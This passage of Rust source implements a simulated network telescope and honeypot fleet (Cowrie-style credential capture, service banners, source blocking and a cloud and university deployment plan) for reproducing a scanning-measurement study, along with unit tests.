    /// *during* collection (making `per_ip_counts` unique-scanner counts)
    /// and no analysis reads it, so a restored telescope carries the
    /// finished counts with empty dedup sets. Restored telescopes are
    /// read-only analysis inputs, never live listeners.
    pub fn snap_write(&self, w: &mut SnapWriter) {
        w.put_str(&self.name);
        self.block.snap_write(w);
        w.put_u64(self.per_ip_counts.len() as u64);
        for (port, counts) in &self.per_ip_counts {
            w.put_u16(*port);
            w.put_u64(counts.len() as u64);
            for c in counts {
                w.put_u32(*c);
            }
        }
        w.put_u64(self.seen_src_port.len() as u64);
        for (src, port) in &self.seen_src_port {
            w.put_u32(*src);
            w.put_u16(*port);
        }
        w.put_u64(self.unique_srcs.len() as u64);
        for s in &self.unique_srcs {
            w.put_u32(*s);
        }
        w.put_u64(self.unique_asns.len() as u64);
        for a in &self.unique_asns {
            w.put_u32(*a);
        }
        w.put_u64(self.asn_counts.len() as u64);
        for (port, by_asn) in &self.asn_counts {
            w.put_u16(*port);
            w.put_u64(by_asn.len() as u64);
            for (asn, count) in by_asn {
                w.put_u32(*asn);
                w.put_u64(*count);
            }
        }
        w.put_u64(self.asn_counts_all.len() as u64);
        for (asn, count) in &self.asn_counts_all {
            w.put_u32(*asn);
            w.put_u64(*count);
        }
        w.put_u64(self.total_packets);
    }

    /// Fold another telescope's observations into this one — the shard
    /// merge step.
    ///
    /// All state here is order-independent (sets union, counters add), with
    /// one subtlety: `per_ip_counts` are *unique-scanner* counts deduped
    /// through `seen_src_dst`, so the merge replays the other telescope's
    /// `(src, dst)` pairs against this one's dedup sets and only counts
    /// fresh pairs. Folding shard telescopes in shard order therefore
    /// reproduces the unsharded telescope exactly, even if two shards saw
    /// the same (src, dst) pair (they cannot — sources are owned by one
    /// shard — but the merge does not rely on that).
    ///
    /// Requires both telescopes to cover the same block with the same
    /// tracked ports (they are built by the same deployment constructor).
    pub fn absorb(&mut self, other: &Telescope) {
        assert_eq!(self.block, other.block, "telescope merge across blocks");
        self.total_packets += other.total_packets;
        self.unique_srcs.extend(other.unique_srcs.iter().copied());
        self.unique_asns.extend(other.unique_asns.iter().copied());
        self.seen_src_port.extend(other.seen_src_port.iter().copied());
        for (port, by_asn) in &other.asn_counts {
            let dst = self.asn_counts.entry(*port).or_default();
            for (asn, count) in by_asn {
                *dst.entry(*asn).or_insert(0) += count;
            }
        }
        for (asn, count) in &other.asn_counts_all {
            *self.asn_counts_all.entry(*asn).or_insert(0) += count;
        }
        for (port, pairs) in &other.seen_src_dst {
            let counts = self
                .per_ip_counts
                .get_mut(port)
                .expect("same tracked ports");
            let seen = self.seen_src_dst.get_mut(port).expect("same tracked ports");
            for &(src, dst) in pairs {
                if seen.insert((src, dst)) {
                    let offset = self
                        .block
                        .offset_of(Ipv4Addr::from(dst))
                        .expect("pair recorded inside the block")
                        as usize;
                    counts[offset] += 1;
                }
            }
        }
    }

    /// Decode a telescope from a snapshot payload (see
    /// [`Telescope::snap_write`] for what travels).
    pub fn snap_read(r: &mut SnapReader<'_>) -> Result<Telescope, SnapError> {
        let name = r.get_str()?.to_string();
        let block = AddressBlock::snap_read(r)?;
        let mut per_ip_counts = BTreeMap::new();
        let mut seen_src_dst = BTreeMap::new();
        for _ in 0..r.get_count()? {
            let port = r.get_u16()?;
            let n = r.get_count()?;
            let mut counts = Vec::with_capacity(n);
            for _ in 0..n {
                counts.push(r.get_u32()?);
            }
            per_ip_counts.insert(port, counts);
            seen_src_dst.insert(port, BTreeSet::new());
        }
        let mut seen_src_port = BTreeSet::new();
        for _ in 0..r.get_count()? {
            let src = r.get_u32()?;
            let port = r.get_u16()?;
            seen_src_port.insert((src, port));
        }
        let mut unique_srcs = BTreeSet::new();
        for _ in 0..r.get_count()? {
            unique_srcs.insert(r.get_u32()?);
        }
        let mut unique_asns = BTreeSet::new();
        for _ in 0..r.get_count()? {
            unique_asns.insert(r.get_u32()?);
        }
        let mut asn_counts = BTreeMap::new();
        for _ in 0..r.get_count()? {
            let port = r.get_u16()?;
            let mut by_asn = BTreeMap::new();
            for _ in 0..r.get_count()? {
                let asn = r.get_u32()?;
                let count = r.get_u64()?;
                by_asn.insert(asn, count);
            }
            asn_counts.insert(port, by_asn);
        }
        let mut asn_counts_all = BTreeMap::new();
        for _ in 0..r.get_count()? {
            let asn = r.get_u32()?;
            let count = r.get_u64()?;
            asn_counts_all.insert(asn, count);
        }
        let total_packets = r.get_u64()?;
        Ok(Telescope {
            name,
            block,
            per_ip_counts,
            seen_src_dst,
            seen_src_port,
            unique_srcs,
            unique_asns,
            asn_counts,
            asn_counts_all,
            total_packets,
            faults: None,
        })
    }
}

impl Listener for Telescope {
    fn name(&self) -> &str {
        &self.name
    }

    fn covers(&self, ip: Ipv4Addr) -> bool {
        self.block.contains(ip)
    }

    fn on_flow(&mut self, flow: &Flow) -> FlowOutcome {
        // Injected faults drop the packet before any counter updates. Both
        // decisions are pure in the flow identity (never the engine-local
        // seq), so sharded and unsharded runs drop the same packets.
        if let Some(f) = &self.faults {
            if f.outage.is_down(flow.time) {
                return FlowOutcome::dark();
            }
            if f.sample > 1
                && !flow_hash(f.sample_salt, flow.time, flow.src, flow.dst, flow.dst_port)
                    .is_multiple_of(f.sample as u64)
            {
                return FlowOutcome::dark();
            }
        }
        self.total_packets += 1;
        let src = flow.src.to_u32();
        self.unique_srcs.insert(src);
        self.unique_asns.insert(flow.src_asn.0);
        self.seen_src_port.insert((src, flow.dst_port));
        *self
            .asn_counts
            .entry(flow.dst_port)
            .or_default()
            .entry(flow.src_asn.0)
            .or_insert(0) += 1;
        *self.asn_counts_all.entry(flow.src_asn.0).or_insert(0) += 1;
        if let Some(counts) = self.per_ip_counts.get_mut(&flow.dst_port) {
            let offset = self
                .block
                .offset_of(flow.dst)
                .expect("covers() guaranteed containment") as usize;
            let dst = flow.dst.to_u32();
            // Count each (src, dst) once so the series is unique scanners.
            if self
                .seen_src_dst
                .get_mut(&flow.dst_port)
                .expect("tracked port")
                .insert((src, dst))
            {
                counts[offset] += 1;
            }
        }
        // The defining telescope property: never complete the handshake.
        FlowOutcome::dark()
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use cw_netsim::asn::Asn;
    use cw_netsim::flow::{ConnectionIntent, FlowSpec};
    use cw_netsim::ip::Cidr;
    use cw_netsim::time::SimTime;

    fn scope() -> Telescope {
        let block = AddressBlock::new(
            "tel",
            vec![Cidr::new(Ipv4Addr::new(10, 0, 0, 0), 24)],
        );
        Telescope::new("tel", block, &[22, 445])
    }

    fn flow(src: Ipv4Addr, dst: Ipv4Addr, port: u16) -> Flow {
        Flow::from_spec(
            FlowSpec {
                src,
                src_asn: Asn(7),
                dst,
                dst_port: port,
                intent: ConnectionIntent::Payload(b"SSH-2.0-x\r\n".to_vec()),
            },
            SimTime(1),
            0,
        )
    }

    #[test]
    fn never_completes_handshake() {
        let mut t = scope();
        let out = t.on_flow(&flow(
            Ipv4Addr::new(1, 1, 1, 1),
            Ipv4Addr::new(10, 0, 0, 9),
            22,
        ));
        assert!(!out.handshake_completed);
        assert!(out.reply.is_none());
    }

    #[test]
    fn per_ip_unique_counting() {
        let mut t = scope();
        let dst = Ipv4Addr::new(10, 0, 0, 9);
        // Same scanner twice → counted once. Second scanner → 2.
        t.on_flow(&flow(Ipv4Addr::new(1, 1, 1, 1), dst, 22));
        t.on_flow(&flow(Ipv4Addr::new(1, 1, 1, 1), dst, 22));
        t.on_flow(&flow(Ipv4Addr::new(2, 2, 2, 2), dst, 22));
        let counts = t.unique_scanners_per_ip(22).unwrap();
        assert_eq!(counts[9], 2);
        assert_eq!(counts[8], 0);
        assert_eq!(t.total_packets(), 3);
        assert_eq!(t.unique_source_count(), 2);
        assert_eq!(t.unique_asn_count(), 1);
    }

    #[test]
    fn untracked_ports_still_feed_overlap_sets() {
        let mut t = scope();
        t.on_flow(&flow(
            Ipv4Addr::new(3, 3, 3, 3),
            Ipv4Addr::new(10, 0, 0, 1),
            80,
        ));
        assert!(t.unique_scanners_per_ip(80).is_none());
        assert!(t.saw_source_on_port(Ipv4Addr::new(3, 3, 3, 3), 80));
        assert!(!t.saw_source_on_port(Ipv4Addr::new(3, 3, 3, 3), 22));
        assert_eq!(t.sources_on_port(80).len(), 1);
    }

    /// Sharded merge contract: splitting a flow stream across two
    /// telescopes and absorbing one into the other reproduces the
    /// counters of the telescope that saw everything — including the
    /// unique-scanner dedup when both halves saw the same (src, dst).
    #[test]
    fn absorb_reproduces_the_unsplit_telescope() {
        let dst = Ipv4Addr::new(10, 0, 0, 9);
        let flows = [
            flow(Ipv4Addr::new(1, 1, 1, 1), dst, 22),
            flow(Ipv4Addr::new(2, 2, 2, 2), dst, 22),
            flow(Ipv4Addr::new(1, 1, 1, 1), dst, 22), // repeat scanner
            flow(Ipv4Addr::new(3, 3, 3, 3), Ipv4Addr::new(10, 0, 0, 1), 80),
        ];
        let mut whole = scope();
        for f in &flows {
            whole.on_flow(f);
        }
        let mut a = scope();
        let mut b = scope();
        // The repeat of scanner 1.1.1.1 lands in the *other* shard, so
        // dedup must happen at absorb time, not within one shard.
        a.on_flow(&flows[0]);
        a.on_flow(&flows[3]);
        b.on_flow(&flows[1]);
        b.on_flow(&flows[2]);
        a.absorb(&b);
        assert_eq!(a.total_packets(), whole.total_packets());
        assert_eq!(a.unique_source_count(), whole.unique_source_count());
        assert_eq!(a.unique_asn_count(), whole.unique_asn_count());
        assert_eq!(
            a.unique_scanners_per_ip(22),
            whole.unique_scanners_per_ip(22)
        );
        assert_eq!(a.sources_on_port(80), whole.sources_on_port(80));
        assert_eq!(a.sources_on_port(22), whole.sources_on_port(22));
    }

    #[test]
    fn telescope_snapshot_round_trips_analysis_state() {
        let mut t = scope();
        let dst = Ipv4Addr::new(10, 0, 0, 9);
        t.on_flow(&flow(Ipv4Addr::new(1, 1, 1, 1), dst, 22));
        t.on_flow(&flow(Ipv4Addr::new(2, 2, 2, 2), dst, 445));
        t.on_flow(&flow(Ipv4Addr::new(3, 3, 3, 3), Ipv4Addr::new(10, 0, 0, 1), 80));
        let mut w = SnapWriter::new();
        t.snap_write(&mut w);
        let bytes = w.into_bytes();
        let mut r = SnapReader::new(&bytes);
        let back = Telescope::snap_read(&mut r).unwrap();
        assert!(r.is_exhausted());
        assert_eq!(back.name(), t.name());
        assert_eq!(back.block(), t.block());
        assert_eq!(back.total_packets(), 3);
        assert_eq!(back.unique_source_count(), 3);
        assert_eq!(back.unique_asn_count(), 1);
        assert_eq!(back.unique_scanners_per_ip(22), t.unique_scanners_per_ip(22));
        assert_eq!(back.unique_scanners_per_ip(445), t.unique_scanners_per_ip(445));
        assert_eq!(back.sources_on_port(80), t.sources_on_port(80));
        assert_eq!(back.asn_freqs_on_port(22), t.asn_freqs_on_port(22));
        assert_eq!(back.asn_freqs_all(), t.asn_freqs_all());
        assert!(back.saw_source_on_port(Ipv4Addr::new(3, 3, 3, 3), 80));
    }

    #[test]
    fn coverage_respects_block() {
        let t = scope();
        assert!(t.covers(Ipv4Addr::new(10, 0, 0, 255)));
        assert!(!t.covers(Ipv4Addr::new(10, 0, 1, 0)));
    }
}
