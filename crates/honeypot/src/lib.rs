//! # cw-honeypot
//!
//! The measurement instruments of the reproduction — everything the paper
//! deployed to *observe* scanning traffic:
//!
//! - [`capture`] — the scan-event record and per-vantage capture store;
//! - [`cowrie`] — an interactive SSH/Telnet honeypot state machine that
//!   harvests attempted credentials the way Cowrie does on ports
//!   22/2222/23/2323;
//! - [`framework`] — the generic honeypot listener: per-port policies
//!   (interactive / first-payload / closed), service personas (banners that
//!   search engines index), and per-source blocklists (the leak
//!   experiment's Censys/Shodan control knobs);
//! - [`telescope`] — the Orion-style passive telescope: 1,856 /24s, records
//!   the first packet only, never completes a handshake, keeps per-IP
//!   unique-scanner counters for the Figure 1 analysis;
//! - [`deployment`] — constructs the full Table 1 fleet (GreyNoise sensors
//!   across 5 clouds and 23 countries, Honeytrap /26s at Stanford/Merit and
//!   in AWS/Google, the telescope) on a concrete simulated address plan.

#![forbid(unsafe_code)]
#![warn(missing_docs)]

pub mod capture;
pub mod cowrie;
pub mod deployment;
pub mod firewall;
pub mod framework;
pub mod telescope;

pub use capture::{Capture, Observed, ScanEvent};
pub use deployment::{CollectorKind, Deployment, NetworkKind, Provider, VantagePoint};
pub use firewall::Firewall;
pub use framework::{HoneypotListener, ListenerFaults, Persona, PortPolicy};
pub use telescope::{Telescope, TelescopeFaults};
