//! The generic honeypot listener: per-port policies, service personas, and
//! per-source blocklists.
//!
//! One [`HoneypotListener`] instance covers a set of vantage IPs (e.g. the
//! 4 GreyNoise honeypots of one provider region, or a Honeytrap /26) and
//! implements the engine's [`Listener`] trait. Three port policies cover
//! every instrument in the paper:
//!
//! - [`PortPolicy::Interactive`] — Cowrie: speak the login protocol, run
//!   the session state machine, record harvested credentials;
//! - [`PortPolicy::FirstPayload`] — Honeytrap / GreyNoise non-interactive
//!   ports: complete the handshake, record the first client payload;
//! - [`PortPolicy::Closed`] — connection refused, nothing recorded.
//!
//! A [`Persona`] gives a port a service banner: that is what Censys/Shodan
//! index, and what makes a honeypot "vulnerable-looking".

use crate::capture::{Capture, Observed, ScanEvent};
use crate::cowrie;
use cw_netsim::engine::{FlowOutcome, Listener};
use cw_netsim::fault::{flow_coin, OutageSchedule};
use cw_netsim::flow::{ConnectionIntent, Flow};
use std::cell::RefCell;
use std::collections::{BTreeMap, BTreeSet};
use std::net::Ipv4Addr;
use std::rc::Rc;

/// Per-port behavior of a honeypot.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum PortPolicy {
    /// Cowrie-style interactive login service.
    Interactive(cw_netsim::flow::LoginService),
    /// Complete the handshake and record the first client payload.
    FirstPayload,
    /// Port closed: no handshake, nothing recorded.
    Closed,
}

/// A service banner presented on a port (what scanners and search engines
/// see when the service responds).
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Persona {
    /// Protocol label for the reply (e.g. `"HTTP"`).
    pub protocol: String,
    /// Banner bytes.
    pub banner: Vec<u8>,
}

impl Persona {
    /// A vulnerable-looking HTTP service page.
    pub fn http() -> Self {
        Persona {
            protocol: "HTTP".into(),
            banner: b"HTTP/1.1 200 OK\r\nServer: Boa/0.94.13\r\nContent-Type: text/html\r\n\r\n<html>It works</html>"
                .to_vec(),
        }
    }

    /// An SSH server banner.
    pub fn ssh() -> Self {
        Persona {
            protocol: "SSH".into(),
            banner: b"SSH-2.0-OpenSSH_7.4p1 Debian-10\r\n".to_vec(),
        }
    }

    /// A Telnet login prompt.
    pub fn telnet() -> Self {
        Persona {
            protocol: "TELNET".into(),
            banner: b"\xff\xfb\x01\xff\xfb\x03\r\nlogin: ".to_vec(),
        }
    }
}

/// Injected measurement faults on one honeypot vantage (see
/// `cw_netsim::fault` for the determinism contract).
///
/// A vantage in an outage window observes nothing and answers nothing — the
/// sensor is down, so from the scanner's side the address looks dark. A
/// truncated capture keeps only the first `truncate_to` bytes of the
/// payload it would have recorded; the truncation coin is a pure hash of
/// the flow identity under `trunc_salt`, so every execution strategy
/// truncates the same captures.
#[derive(Debug, Clone, Default)]
pub struct ListenerFaults {
    /// Deterministic downtime schedule for this vantage.
    pub outage: OutageSchedule,
    /// Fraction of recorded payload captures truncated, in `[0, 1]`.
    pub truncation: f64,
    /// Bytes kept of a truncated capture.
    pub truncate_to: u32,
    /// Truncation coin salt (the fault plan's truncation domain salt).
    pub trunc_salt: u64,
}

/// A honeypot instance covering a set of IPs.
pub struct HoneypotListener {
    name: String,
    ips: BTreeSet<Ipv4Addr>,
    policies: BTreeMap<u16, PortPolicy>,
    default_policy: PortPolicy,
    personas: BTreeMap<u16, Persona>,
    /// Ports only open on a subset of the covered IPs (closed elsewhere).
    /// Models GreyNoise's "4 or 2 (HTTP)" deployments where a region has 4
    /// SSH/Telnet honeypots but only 2 expose the payload ports.
    port_restrictions: BTreeMap<u16, BTreeSet<Ipv4Addr>>,
    /// Per-source firewall: a listed source may only reach the listed ports
    /// (empty set = fully blocked). Unlisted sources reach everything.
    source_allowed_ports: BTreeMap<Ipv4Addr, BTreeSet<u16>>,
    capture: Rc<RefCell<Capture>>,
    /// Injected measurement faults; `None` is the (default) perfect sensor.
    faults: Option<ListenerFaults>,
}

impl HoneypotListener {
    /// Create a honeypot covering `ips`, with `default_policy` for ports not
    /// explicitly configured.
    pub fn new(name: &str, ips: impl IntoIterator<Item = Ipv4Addr>, default_policy: PortPolicy) -> Self {
        HoneypotListener {
            name: name.to_string(),
            ips: ips.into_iter().collect(),
            policies: BTreeMap::new(),
            default_policy,
            personas: BTreeMap::new(),
            port_restrictions: BTreeMap::new(),
            source_allowed_ports: BTreeMap::new(),
            capture: Rc::new(RefCell::new(Capture::new(name))),
            faults: None,
        }
    }

    /// Inject measurement faults into this vantage. Called by the
    /// deployment when a non-trivial fault plan is active; the default
    /// (no faults) is the perfect sensor the golden manifest assumes.
    pub fn set_faults(&mut self, faults: ListenerFaults) {
        self.faults = Some(faults);
    }

    /// Set the policy for one port (builder style).
    pub fn with_policy(mut self, port: u16, policy: PortPolicy) -> Self {
        self.policies.insert(port, policy);
        self
    }

    /// Set a persona (banner) for one port (builder style).
    pub fn with_persona(mut self, port: u16, persona: Persona) -> Self {
        self.personas.insert(port, persona);
        self
    }

    /// Restrict a port to be open on only these covered IPs; it behaves as
    /// [`PortPolicy::Closed`] on the others (builder style).
    pub fn with_port_restriction(
        mut self,
        port: u16,
        ips: impl IntoIterator<Item = Ipv4Addr>,
    ) -> Self {
        self.port_restrictions
            .insert(port, ips.into_iter().collect());
        self
    }

    /// Block a source IP from reaching the services (leak-experiment knob:
    /// "we block Censys and Shodan from accessing the Honeytrap services").
    pub fn block_source(&mut self, src: Ipv4Addr) {
        self.source_allowed_ports.insert(src, BTreeSet::new());
    }

    /// Block a source IP from every port *except* the listed ones — the
    /// leak experiment's "allow either Censys or Shodan to find only one of
    /// the three emulated services".
    pub fn block_source_except(&mut self, src: Ipv4Addr, allowed_ports: &[u16]) {
        self.source_allowed_ports
            .insert(src, allowed_ports.iter().copied().collect());
    }

    /// Record into a deployment-shared interner instead of a private one
    /// (builder style). All listeners of one deployment share an id space,
    /// so the dataset build pays a single remap for the whole fleet.
    pub fn with_interner(
        self,
        interner: Rc<RefCell<cw_netsim::intern::Interner>>,
    ) -> Self {
        let replaced = {
            let cap = self.capture.borrow();
            cap.clone().with_interner(interner)
        };
        *self.capture.borrow_mut() = replaced;
        self
    }

    /// Handle to the capture store (alive across the engine run).
    pub fn capture(&self) -> Rc<RefCell<Capture>> {
        Rc::clone(&self.capture)
    }

    /// The vantage IPs this honeypot covers.
    pub fn ips(&self) -> impl Iterator<Item = Ipv4Addr> + '_ {
        self.ips.iter().copied()
    }

    fn policy_for(&self, port: u16) -> PortPolicy {
        *self.policies.get(&port).unwrap_or(&self.default_policy)
    }

    fn reply_for(&self, port: u16) -> Option<&Persona> {
        self.personas.get(&port)
    }
}

impl Listener for HoneypotListener {
    fn name(&self) -> &str {
        &self.name
    }

    fn covers(&self, ip: Ipv4Addr) -> bool {
        self.ips.contains(&ip)
    }

    fn on_flow(&mut self, flow: &Flow) -> FlowOutcome {
        // A vantage in an injected outage window is down: no handshake,
        // nothing recorded, nothing indexed — same as dark space.
        if let Some(f) = &self.faults {
            if f.outage.is_down(flow.time) {
                return FlowOutcome::dark();
            }
        }
        if let Some(allowed) = self.source_allowed_ports.get(&flow.src) {
            if !allowed.contains(&flow.dst_port) {
                // Firewalled: no handshake, nothing observed, nothing indexed.
                return FlowOutcome::dark();
            }
        }
        if let Some(allowed) = self.port_restrictions.get(&flow.dst_port) {
            if !allowed.contains(&flow.dst) {
                return FlowOutcome::dark();
            }
        }
        let policy = self.policy_for(flow.dst_port);
        // Injected capture truncation decides on the flow identity *before*
        // interning: a truncated capture must never intern the full payload,
        // or the interner's contents would diverge from what was recorded.
        let truncate_to: Option<usize> = self.faults.as_ref().and_then(|f| {
            if f.truncation > 0.0
                && flow_coin(f.trunc_salt, flow.time, flow.src, flow.dst, flow.dst_port)
                    < f.truncation
            {
                Some(f.truncate_to as usize)
            } else {
                None
            }
        });
        // Intern at the record boundary: blob bytes stop here, events carry ids.
        let observed = {
            let capture = self.capture.borrow();
            let interner = capture.interner();
            let mut interner = interner.borrow_mut();
            match policy {
                PortPolicy::Closed => return FlowOutcome::dark(),
                PortPolicy::Interactive(service) => match &flow.intent {
                    ConnectionIntent::Login {
                        service: client_service,
                        username,
                        password,
                    } if *client_service == service => {
                        // Run the real Cowrie dialogue to harvest credentials.
                        match cowrie::harvest(service, username, password) {
                            Some(c) => Observed::Credentials {
                                service,
                                username: interner.intern_cred(&c.username),
                                password: interner.intern_cred(&c.password),
                            },
                            None => Observed::Handshake,
                        }
                    }
                    ConnectionIntent::Login { .. } => Observed::Handshake,
                    ConnectionIntent::Payload(p) => Observed::Payload(match truncate_to {
                        Some(n) if p.len() > n => interner.intern_payload(&p[..n]),
                        _ => interner.intern_payload(p),
                    }),
                    ConnectionIntent::ProbeOnly => Observed::Handshake,
                },
                PortPolicy::FirstPayload => match truncate_to {
                    // Fault slow lane: materialize the bytes, cut, intern.
                    Some(n) => match flow.intent.first_payload_bytes() {
                        Some(p) => {
                            let keep = p.len().min(n);
                            Observed::Payload(interner.intern_payload(&p[..keep]))
                        }
                        None => Observed::Handshake,
                    },
                    None => match flow.intent.first_payload_id(&mut interner) {
                        Some(p) => Observed::Payload(p),
                        None => Observed::Handshake,
                    },
                },
            }
        };
        self.capture.borrow_mut().record_from(
            ScanEvent {
                time: flow.time,
                src: flow.src,
                src_asn: flow.src_asn,
                dst: flow.dst,
                dst_port: flow.dst_port,
                observed,
            },
            flow.agent,
            flow.seq,
        );
        match (policy, self.reply_for(flow.dst_port)) {
            (_, Some(p)) => FlowOutcome::replied(&p.protocol, &p.banner),
            (PortPolicy::Interactive(service), None) => {
                // Interactive services always greet.
                let session = cowrie::Session::new(service);
                FlowOutcome::replied(service.label(), &session.server_greeting())
            }
            _ => FlowOutcome::accepted(),
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use cw_netsim::asn::Asn;
    use cw_netsim::flow::{FlowSpec, LoginService};
    use cw_netsim::time::SimTime;

    fn flow(src: Ipv4Addr, dst: Ipv4Addr, port: u16, intent: ConnectionIntent) -> Flow {
        Flow::from_spec(
            FlowSpec {
                src,
                src_asn: Asn(1),
                dst,
                dst_port: port,
                intent,
            },
            SimTime(5),
            0,
        )
    }

    fn hp() -> HoneypotListener {
        HoneypotListener::new(
            "test",
            [Ipv4Addr::new(10, 0, 0, 1), Ipv4Addr::new(10, 0, 0, 2)],
            PortPolicy::FirstPayload,
        )
        .with_policy(22, PortPolicy::Interactive(LoginService::Ssh))
        .with_policy(23, PortPolicy::Interactive(LoginService::Telnet))
        .with_policy(9999, PortPolicy::Closed)
        .with_persona(80, Persona::http())
    }

    #[test]
    fn coverage() {
        let h = hp();
        assert!(h.covers(Ipv4Addr::new(10, 0, 0, 1)));
        assert!(!h.covers(Ipv4Addr::new(10, 0, 0, 3)));
    }

    #[test]
    fn interactive_port_harvests_credentials() {
        let mut h = hp();
        let cap = h.capture();
        let out = h.on_flow(&flow(
            Ipv4Addr::new(1, 1, 1, 1),
            Ipv4Addr::new(10, 0, 0, 1),
            22,
            ConnectionIntent::Login {
                service: LoginService::Ssh,
                username: "root".into(),
                password: "admin".into(),
            },
        ));
        assert!(out.handshake_completed);
        assert!(out.reply.unwrap().banner.starts_with(b"SSH-2.0-"));
        let cap = cap.borrow();
        assert_eq!(cap.len(), 1);
        let interner = cap.interner();
        let interner = interner.borrow();
        match cap.event(0).observed {
            Observed::Credentials {
                username, password, ..
            } => {
                assert_eq!(interner.cred(username), "root");
                assert_eq!(interner.cred(password), "admin");
            }
            other => panic!("expected credentials, got {other:?}"),
        }
    }

    #[test]
    fn first_payload_port_records_payload() {
        let mut h = hp();
        let cap = h.capture();
        h.on_flow(&flow(
            Ipv4Addr::new(1, 1, 1, 1),
            Ipv4Addr::new(10, 0, 0, 1),
            8080,
            ConnectionIntent::Payload(b"GET / HTTP/1.1\r\n\r\n".to_vec()),
        ));
        let cap = cap.borrow();
        let pid = cap.event(0).observed.payload().expect("payload recorded");
        assert_eq!(
            cap.interner().borrow().payload(pid),
            b"GET / HTTP/1.1\r\n\r\n"
        );
    }

    #[test]
    fn persona_port_replies_with_banner() {
        let mut h = hp();
        let out = h.on_flow(&flow(
            Ipv4Addr::new(1, 1, 1, 1),
            Ipv4Addr::new(10, 0, 0, 1),
            80,
            ConnectionIntent::Payload(b"GET / HTTP/1.1\r\n\r\n".to_vec()),
        ));
        let reply = out.reply.unwrap();
        assert_eq!(reply.protocol.as_deref(), Some("HTTP"));
        assert!(reply.banner.starts_with(b"HTTP/1.1 200 OK"));
    }

    #[test]
    fn closed_port_is_dark_and_unrecorded() {
        let mut h = hp();
        let cap = h.capture();
        let out = h.on_flow(&flow(
            Ipv4Addr::new(1, 1, 1, 1),
            Ipv4Addr::new(10, 0, 0, 1),
            9999,
            ConnectionIntent::ProbeOnly,
        ));
        assert!(!out.handshake_completed);
        assert!(cap.borrow().is_empty());
    }

    #[test]
    fn blocked_source_sees_nothing_and_is_not_recorded() {
        let mut h = hp();
        let cap = h.capture();
        let censys = Ipv4Addr::new(192, 0, 2, 10);
        h.block_source(censys);
        let out = h.on_flow(&flow(
            censys,
            Ipv4Addr::new(10, 0, 0, 1),
            80,
            ConnectionIntent::Payload(b"GET / HTTP/1.1\r\n\r\n".to_vec()),
        ));
        assert!(!out.handshake_completed);
        assert!(out.reply.is_none());
        assert!(cap.borrow().is_empty());
    }

    #[test]
    fn telnet_login_on_ssh_port_records_handshake_only() {
        let mut h = hp();
        let cap = h.capture();
        h.on_flow(&flow(
            Ipv4Addr::new(1, 1, 1, 1),
            Ipv4Addr::new(10, 0, 0, 1),
            22,
            ConnectionIntent::Login {
                service: LoginService::Telnet,
                username: "a".into(),
                password: "b".into(),
            },
        ));
        assert_eq!(cap.borrow().event(0).observed, Observed::Handshake);
    }

    #[test]
    fn ssh_login_against_honeytrap_port_leaks_only_client_banner() {
        // A first-payload collector cannot harvest credentials — it records
        // the SSH client banner (§3.1: Honeytrap configures payload capture
        // only; credential capture needs Cowrie).
        let mut h = HoneypotListener::new(
            "trap",
            [Ipv4Addr::new(10, 0, 0, 1)],
            PortPolicy::FirstPayload,
        );
        let cap = h.capture();
        h.on_flow(&flow(
            Ipv4Addr::new(1, 1, 1, 1),
            Ipv4Addr::new(10, 0, 0, 1),
            22,
            ConnectionIntent::Login {
                service: LoginService::Ssh,
                username: "root".into(),
                password: "x".into(),
            },
        ));
        let cap = cap.borrow();
        match cap.event(0).observed {
            Observed::Payload(p) => {
                assert!(cap.interner().borrow().payload(p).starts_with(b"SSH-"))
            }
            other => panic!("expected payload, got {other:?}"),
        }
    }
}
