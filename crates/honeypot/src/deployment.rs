//! The Table 1 vantage-point fleet on a concrete simulated address plan.
//!
//! Networks and regions follow Table 1: GreyNoise sensors across Hurricane
//! Electric (a /24 in Ohio), AWS (16 regions), Azure (3), Google (21) and
//! Linode (7); Honeytrap /26 fleets at Stanford and Merit plus matched
//! cloud deployments; and the Orion telescope (1,856 /24s). Each GreyNoise
//! region hosts 4 honeypot IPs running Cowrie on 22/2222/23/2323, with the
//! payload ports (HTTP & friends) exposed on 2 of them — the paper's
//! "4 or 2 (HTTP)" convention.
//!
//! Address plan (simulated space, disjoint by construction):
//!
//! | block                  | space                         |
//! |------------------------|-------------------------------|
//! | telescope              | 10.0.0.0/16 × 7 + 10.7.0.0/18 |
//! | greynoise/he/US-OH     | 20.9.0.0/24                   |
//! | greynoise/aws/*        | 20.10.N.0/28                  |
//! | greynoise/google/*     | 20.11.N.0/28                  |
//! | greynoise/azure/*      | 20.12.N.0/28                  |
//! | greynoise/linode/*     | 20.13.N.0/28                  |
//! | honeytrap/stanford     | 171.64.9.0/26                 |
//! | honeytrap/merit        | 198.108.30.0/26               |
//! | honeytrap/aws-west     | 20.20.1.0/26                  |
//! | honeytrap/google-west  | 20.21.1.0/26                  |
//! | honeytrap/google-east  | 20.21.2.0/31                  |
//! | leak/stanford          | 171.64.10.0/26                |

use crate::framework::{HoneypotListener, ListenerFaults, Persona, PortPolicy};
use crate::telescope::{Telescope, TelescopeFaults};
use cw_netsim::engine::Engine;
use cw_netsim::fault::{domain_salt, FaultDomain, FaultPlan, OutageSchedule};
use cw_netsim::flow::LoginService;
use cw_netsim::geo::{Continent, Region};
use cw_netsim::ip::Cidr;
use cw_netsim::time::SimDuration;
use cw_netsim::topology::{AddressBlock, Topology};
use std::cell::RefCell;
use std::net::Ipv4Addr;
use std::rc::Rc;

/// Network operators hosting vantage points.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Hash)]
pub enum Provider {
    /// Amazon Web Services.
    Aws,
    /// Google Cloud.
    Google,
    /// Microsoft Azure.
    Azure,
    /// Linode.
    Linode,
    /// Hurricane Electric.
    HurricaneElectric,
    /// Stanford University (education).
    Stanford,
    /// Merit Network (education).
    Merit,
    /// The Orion telescope operator.
    Orion,
}

impl Provider {
    /// Lower-case short name used in block and vantage ids.
    pub fn slug(&self) -> &'static str {
        match self {
            Provider::Aws => "aws",
            Provider::Google => "google",
            Provider::Azure => "azure",
            Provider::Linode => "linode",
            Provider::HurricaneElectric => "he",
            Provider::Stanford => "stanford",
            Provider::Merit => "merit",
            Provider::Orion => "orion",
        }
    }

    /// The network type of this provider.
    pub fn kind(&self) -> NetworkKind {
        match self {
            Provider::Aws
            | Provider::Google
            | Provider::Azure
            | Provider::Linode
            | Provider::HurricaneElectric => NetworkKind::Cloud,
            Provider::Stanford | Provider::Merit => NetworkKind::Education,
